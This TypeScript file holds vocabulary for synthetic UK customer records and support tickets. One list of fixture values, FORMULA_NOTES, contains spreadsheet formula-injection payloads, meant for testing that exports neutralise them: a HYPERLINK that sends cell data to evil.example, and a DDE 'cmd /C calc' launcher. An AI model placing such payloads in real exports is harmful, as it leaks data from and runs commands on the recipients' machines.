// Vocabulary for synthetic customers, their legacy spellings and their support tickets.
export const GIVEN = ['James', 'Mary', 'John', 'Patricia', 'Robert', 'Jennifer', 'Michael', 'Linda', 'William', 'Elizabeth', 'David', 'Barbara', 'Richard', 'Susan', 'Joseph', 'Jessica', 'Thomas', 'Sarah', 'Charles', 'Karen', 'Christopher', 'Nancy', 'Daniel', 'Lisa', 'Matthew', 'Margaret', 'Anthony', 'Betty', 'Mark', 'Sandra', 'Oliver', 'Amelia', 'Harry', 'Isla', 'Jack', 'Ava', 'George', 'Mia', 'Noah', 'Sophie', 'Liam', 'Chloe', 'Ethan', 'Grace', 'Lucas', 'Zoe', 'Aarav', 'Priya', 'Wei', 'Mei', 'Mohammed', 'Fatima', 'José', 'María', 'Zoë', 'Siobhán', 'Łukasz', 'Øystein', 'Katherine', 'Alexander', 'Victoria', 'Edward', 'Rebecca', 'Samuel', 'Catherine', 'Benjamin', 'Jonathan', 'Nicholas', 'Deborah', 'Stephen', 'Andrew', 'Josephine', 'Frederick', 'Dorothy', 'Theodore', 'Abigail'] as const;
export const FAMILY = ['Smith', 'Johnson', 'Williams', 'Brown', 'Jones', 'Garcia', 'Miller', 'Davis', 'Rodriguez', 'Martinez', 'Hernandez', 'Lopez', 'Wilson', 'Anderson', 'Thomas', 'Taylor', 'Moore', 'Jackson', 'Martin', 'Lee', 'Thompson', 'White', 'Harris', 'Clark', 'Lewis', 'Robinson', 'Walker', 'Young', 'Allen', 'King', 'Wright', 'Scott', 'Green', 'Baker', 'Adams', 'Nelson', 'Hill', 'Campbell', 'Mitchell', 'Roberts', "O'Brien", 'MacDonald', 'Patel', 'Nguyen', 'Kowalski', 'Müller', 'Schmidt', 'Fischer', 'Rossi', 'Dubois', 'Evans', 'Hughes', 'Edwards', 'Morgan', 'Cooper', 'Ward', 'Turner', 'Parker', 'Collins', 'Stewart', 'Murphy', 'Bell', 'Murray', 'Kelly', 'Khan', 'Ahmed', 'Singh', 'Chen', 'Wang', 'Kaur', 'Ali', 'Hussain', 'Fitzgerald', 'Van der Berg', 'De Souza', 'Smyth', 'Davies', 'Jenkins'] as const;

/** Formal name → nicknames a clerk or the customer may have typed instead. */
export const NICKNAMES: Readonly<Record<string, readonly string[]>> = {
  Robert: ['Bob', 'Rob', 'Bobby', 'Robbie'],
  William: ['Bill', 'Will', 'Billy', 'Liam'],
  Elizabeth: ['Liz', 'Beth', 'Betty', 'Lizzie', 'Eliza'],
  Margaret: ['Peggy', 'Maggie', 'Meg', 'Marge'],
  Richard: ['Dick', 'Rick', 'Richie'],
  James: ['Jim', 'Jimmy', 'Jamie'],
  John: ['Jack', 'Johnny'],
  Michael: ['Mike', 'Mick', 'Mikey'],
  Joseph: ['Joe', 'Joey'],
  Thomas: ['Tom', 'Tommy'],
  Charles: ['Charlie', 'Chuck'],
  Christopher: ['Chris', 'Kit'],
  Daniel: ['Dan', 'Danny'],
  Matthew: ['Matt'],
  Anthony: ['Tony'],
  Patricia: ['Pat', 'Patty', 'Trish'],
  Jennifer: ['Jen', 'Jenny'],
  Barbara: ['Barb', 'Babs'],
  Susan: ['Sue', 'Susie'],
  Jessica: ['Jess'],
  Katherine: ['Kate', 'Kathy', 'Katie'],
  Catherine: ['Cathy', 'Cat'],
  Alexander: ['Alex', 'Sandy'],
  Victoria: ['Vicky', 'Tori'],
  Edward: ['Ed', 'Ted', 'Eddie'],
  Rebecca: ['Becky', 'Becca'],
  Samuel: ['Sam'],
  Benjamin: ['Ben'],
  Jonathan: ['Jon'],
  Nicholas: ['Nick'],
  Deborah: ['Debbie', 'Deb'],
  Stephen: ['Steve'],
  Andrew: ['Andy', 'Drew'],
  Josephine: ['Jo', 'Josie'],
  Frederick: ['Fred', 'Freddie'],
  Dorothy: ['Dot', 'Dolly'],
  Theodore: ['Theo', 'Ted'],
  Abigail: ['Abby', 'Gail'],
  Sandra: ['Sandy'],
  Nancy: ['Nan'],
};

export const STREETS = ['High Street', 'Station Road', 'Main Street', 'Park Road', 'Church Lane', 'London Road', 'Victoria Road', 'Green Lane', 'Manor Road', 'Kings Road', 'Queens Avenue', 'Mill Lane', 'North Street', 'South Street', 'Elm Grove', 'Oak Drive', 'Cedar Close', 'Riverside Walk', 'Albert Road', 'Church Street', 'School Lane', 'The Crescent', 'Springfield Road', 'York Road'] as const;
/** Street-type spellings seen in legacy systems. */
export const STREET_ABBREV: Readonly<Record<string, readonly string[]>> = {
  Street: ['St', 'St.', 'STREET', 'Str'],
  Road: ['Rd', 'Rd.', 'ROAD'],
  Lane: ['Ln', 'LANE'],
  Avenue: ['Ave', 'Av.', 'AVENUE'],
  Drive: ['Dr', 'Dr.'],
  Close: ['Cl', 'Cl.'],
  Grove: ['Gr', 'Gro'],
  Crescent: ['Cres', 'Cresc.'],
  Walk: ['Wlk'],
};
/** City → postcode areas. */
export const CITIES: readonly (readonly [string, readonly string[]])[] = [
  ['London', ['E', 'N', 'NW', 'SE', 'SW', 'W']],
  ['Manchester', ['M']],
  ['Birmingham', ['B']],
  ['Leeds', ['LS']],
  ['Glasgow', ['G']],
  ['Sheffield', ['S']],
  ['Bristol', ['BS']],
  ['Edinburgh', ['EH']],
  ['Liverpool', ['L']],
  ['Cardiff', ['CF']],
  ['Belfast', ['BT']],
  ['Nottingham', ['NG']],
  ['Leicester', ['LE']],
  ['Brighton', ['BN']],
  ['York', ['YO']],
  ['Oxford', ['OX']],
  ['Cambridge', ['CB']],
  ['Bath', ['BA']],
];
export const COMPANIES = ['Acme Ltd', 'Globex plc', 'Initech Limited', 'Umbrella Holdings', 'Stark Industries', 'Wayne Enterprises', 'Hooli Ltd', 'Vandelay Imports', 'Soylent Corp', 'Tyrell Corporation', 'Northwind Traders', 'Contoso Ltd', 'Fabrikam plc', 'Blue Yonder Airlines', 'Wide World Importers'] as const;
export const DOMAINS = ['example.com', 'mail.example.org', 'post.example.net', 'inbox.example.co.uk', 'example.co.uk'] as const;
export const TITLES = ['Mr', 'Mrs', 'Ms', 'Miss', 'Dr', 'MR', 'MRS', 'Mr.', 'Mrs.', ''] as const;

export const NOTES = ['prefers phone contact', 'moved house, see new address', 'VIP - handle with care', 'complained about delivery', 'called re invoice', 'do not send paper catalogue', 'spouse also a customer', 'duplicate? check old account', 'gdpr request 2021 - resolved', 'wants callback in the evening', 'paid by cheque', 'account merged?'] as const;
/** Cells a spreadsheet would read as formulas: exports must neutralise these. */
export const FORMULA_NOTES = ['=HYPERLINK("http://evil.example/?d="&A1,"click me")', '=1+1', '+44 call back after 6pm', '-- VIP do not chase --', '@sales please review', '=cmd|\' /C calc\'!A0', '-2 credit owed', '+ priority customer', '=SUM(A1:A9)', '@ticket 4471'] as const;

export const QUESTIONS = ['How do I change my delivery address?', 'Can I get a copy of my last invoice?', 'When will my order arrive?', 'How do I update my payment card?', 'Do you deliver to Northern Ireland?', 'Can I add my partner to the account?', 'Is there a student discount?', 'How do I reset my password?', 'What is your returns policy?', 'Can I change my email preferences?'] as const;
export const COMPLAINTS = ['My order arrived damaged.', 'I was charged twice this month.', 'The delivery was late again.', 'Nobody replied to my last email.', 'The product stopped working after a week.', 'Your prices went up without notice.', 'I was kept on hold for 40 minutes.', 'The refund has still not arrived.'] as const;
export const ANGRY = ['This is the THIRD time I am writing about this. Unacceptable!!', 'I want to cancel my account. Your service is a joke.', 'Absolutely disgusted with how I have been treated. Considering leaving.', 'If this is not fixed by Friday I am taking my business elsewhere.', 'Worst customer service ever. Please close my account.', 'Cheaper elsewhere and better service. Why should I stay?'] as const;
